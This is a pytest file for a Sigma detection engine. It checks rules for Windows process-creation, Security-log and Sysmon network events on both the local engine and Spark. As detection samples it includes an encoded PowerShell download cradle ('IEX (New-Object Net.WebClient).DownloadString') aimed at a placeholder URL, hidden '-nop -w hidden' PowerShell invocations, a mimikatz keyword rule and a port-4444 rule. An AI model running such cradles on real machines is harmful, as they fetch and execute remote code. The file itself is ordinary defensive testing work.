"""Sigma semantics over Windows events: mapped fields, event data fields (looked up in the event's
JSON object), service log sources. Each case: (logsource, detection YAML, table,
[(row, expected match)]); columns not given are NULL.
"""

from __future__ import annotations

import base64
import json

import pytest

from tests.detect.sigma_helpers import RULE_ID, check_on_spark, load_one
from threatscope.detect import evaluate

PROC = "category: process_creation\n    product: windows"
SECURITY = "product: windows\n    service: security"
NETWORK = "category: network_connection\n    product: windows"
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def cmd(line: str) -> dict:
    return {"process_command_line": line}


def data(**fields) -> dict:
    """A Windows event's EventData (the fields Sigma names that have no column)."""
    return {"event_data": json.dumps(fields)}


def sec(event_id: int, **fields) -> dict:
    return {"channel": "Security", "event_id": event_id, **data(**fields)}


def net(**fields) -> dict:
    return {"channel": SYSMON, "event_id": 3, **data(**fields)}


CASES: dict[str, tuple[str, str, str, list[tuple[dict, bool]]]] = {
    "mapped field, case-insensitive endswith": (
        PROC, "sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel", "process_creation",
        [({"process_executable": "C:\\Windows\\System32\\CMD.EXE"}, True),
         ({"process_executable": "C:\\Windows\\System32\\cmd.exe.bak"}, False), ({}, False)],
    ),
    "unmapped field read from the event data": (
        PROC, "sel:\n  ParentProcessGuid|startswith: '{AB12'\ncondition: sel", "process_creation",
        [(data(ParentProcessGuid="{ab12-34}"), True), (data(ParentProcessGuid="{cd12}"), False),
         (data(Other="{ab12-34}"), False), ({}, False)],
    ),
    "fieldref between two mapped fields": (
        PROC, "sel:\n  ParentImage|fieldref: Image\ncondition: sel", "process_creation",
        [({"process_executable": "C:\\a.exe", "process_parent_executable": "c:\\A.EXE"}, True),
         ({"process_executable": "C:\\a.exe", "process_parent_executable": "C:\\b.exe"}, False),
         ({"process_executable": "C:\\a.exe"}, False)],
    ),
    "fieldref between a mapped field and an event data field": (
        PROC, "sel:\n  OriginalFileName|fieldref: ProductName\ncondition: sel",
        "process_creation",
        [({"process_pe_original_file_name": "x.exe", **data(ProductName="X.EXE")}, True),
         ({"process_pe_original_file_name": "x.exe", **data(ProductName="y.exe")}, False)],
    ),
    "exists on an event data field": (
        PROC, "sel:\n  RuleName|exists: true\ncondition: sel", "process_creation",
        [(data(RuleName="technique_id=T1059"), True), (data(RuleName=""), True),
         (data(Other="x"), False), ({}, False)],
    ),
    "exists false": (
        PROC, "sel:\n  RuleName|exists: false\ncondition: sel", "process_creation",
        [(data(RuleName="x"), False), (data(Other="x"), True)],
    ),
    "null is an absent or empty mapped field": (
        PROC, "sel:\n  Image|endswith: '\\x.exe'\n  ParentUser: null\ncondition: sel",
        "process_creation",
        [({"process_executable": "C:\\x.exe"}, True),
         ({"process_executable": "C:\\x.exe", "process_parent_user": "CORP\\bob"}, False)],
    ),
    "windash covers slash and the unicode dashes": (
        PROC, "sel:\n  CommandLine|windash|contains: ' -nop '\ncondition: sel", "process_creation",
        [(cmd("powershell -nop -w hidden"), True), (cmd("powershell /nop -w hidden"), True),
         (cmd("powershell \u2013nop x"), True), (cmd("powershell \u2014nop x"), True),
         (cmd("powershell \u2015nop x"), True), (cmd("powershell nop x"), False)],
    ),
    "re with the i flag": (
        PROC, "sel:\n  CommandLine|re|i: 'iex\\s*\\(new-object'\ncondition: sel",
        "process_creation",
        [(cmd("IEX (New-Object Net.WebClient)"), True), (cmd("iex(new-object x)"), True),
         (cmd("Invoke-Expression (New-Object x)"), False)],
    ),
    "base64offset of a command line's payload": (
        PROC, "sel:\n  CommandLine|base64offset|contains: 'http://'\ncondition: sel",
        "process_creation",
        [(cmd("x.exe " + base64.b64encode(p + b"http://e.example/a").decode()), True)
         for p in (b"", b"a", b"ab")]
        + [(cmd("x.exe " + base64.b64encode(b"https://e.example").decode()), False)],
    ),
    "wide base64offset: an encoded PowerShell command": (
        PROC, "sel:\n  CommandLine|wide|base64offset|contains: 'DownloadString'\n"
              "condition: sel", "process_creation",
        [(cmd("powershell -enc " + base64.b64encode(
            "IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le")
        ).decode()), True),
         (cmd("powershell -enc " + base64.b64encode(
             "(New-Object Net.WebClient).DownloadFile('http://x')".encode("utf-16-le")
         ).decode()), False)],
    ),
    "cased on an event data field": (
        PROC, "sel:\n  Description|cased: 'Windows Command Processor'\ncondition: sel",
        "process_creation",
        [({"process_pe_description": "Windows Command Processor"}, True),
         ({"process_pe_description": "windows command processor"}, False)],
    ),
    "all of selection_* with mapped and event data fields": (
        PROC, "selection_img:\n  Image|endswith: '\\rundll32.exe'\nselection_cli:\n"
              "  CommandLine|contains|all: [',', '.dll']\nselection_term:\n"
              "  TerminalSessionId: 1\ncondition: all of selection_*", "process_creation",
        [({"process_executable": "C:\\rundll32.exe", "process_command_line": "rundll32 a.dll,X",
           **data(TerminalSessionId="1")}, True),
         ({"process_executable": "C:\\rundll32.exe", "process_command_line": "rundll32 a.dll,X",
           **data(TerminalSessionId="0")}, False),
         ({"process_executable": "C:\\rundll32.exe", "process_command_line": "rundll32 a.dll",
           **data(TerminalSessionId="1")}, False)],
    ),
    "service log source: the channel and an EventID list": (
        SECURITY, "sel:\n  EventID: [4624, 4625]\n  LogonType: 10\ncondition: sel",
        "windows_event",
        [(sec(4625, LogonType="10"), True), (sec(4624, LogonType="10"), True),
         (sec(4625, LogonType="3"), False), (sec(4688, LogonType="10"), False),
         ({**sec(4625, LogonType="10"), "channel": "Application"}, False)],
    ),
    "numeric comparison on an event data field": (
        SECURITY, "sel:\n  EventID: 4625\n  LogonType|gte: 10\ncondition: sel", "windows_event",
        [(sec(4625, LogonType="10"), True), (sec(4625, LogonType="11"), True),
         (sec(4625, LogonType="3"), False), (sec(4625, LogonType="ten"), False)],
    ),
    "category over windows_event: the channel and event id are part of it": (
        NETWORK, "sel:\n  DestinationPort: 4444\ncondition: sel", "windows_event",
        [(net(DestinationPort="4444"), True), (net(DestinationPort="443"), False),
         ({**net(DestinationPort="4444"), "event_id": 22}, False),
         ({**net(DestinationPort="4444"), "channel": "Security"}, False)],
    ),
    "cidr on an event data field, IPv4 and IPv6": (
        NETWORK, "sel:\n  DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']\ncondition: sel",
        "windows_event",
        [(net(DestinationIp="10.1.2.3"), True), (net(DestinationIp="11.0.0.1"), False),
         (net(DestinationIp="fe80::1"), True), (net(DestinationIp="2001:db8::1"), False),
         (net(DestinationIp="not an ip"), False)],
    ),
    "keywords search the raw record": (
        SECURITY, "keywords:\n  - 'mimikatz'\ncondition: keywords", "windows_event",
        [({"channel": "Security", "raw": '{"x": "sekurlsa via MimiKatz.exe"}'}, True),
         ({"channel": "Security", "raw": '{"x": "mimi katz"}'}, False),
         ({"channel": "System", "raw": '{"x": "mimikatz"}'}, False)],
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_sigma_feature_on_windows_events(tmp_path, name):
    logsource, detection, table, cases = CASES[name]
    rs = load_one(tmp_path, detection, logsource=logsource)
    assert not rs.failed, rs.failed
    assert [r.table for r in rs.rules] == [table]
    for reference in (False, True):  # the engine and every rule's SQL on every row agree
        got = [RULE_ID in hits for hits in evaluate(rs, table, [r for r, _ in cases],
                                                     reference=reference)]
        assert got == [w for _, w in cases], (reference, got)


def test_sigma_features_on_windows_events_on_spark(tmp_path, spark_session):
    """Every case on the Spark engine, in one Spark job per table."""
    check_on_spark(tmp_path, spark_session, [(det, {"logsource": ls}, table, cases)
                                             for ls, det, table, cases in CASES.values()])
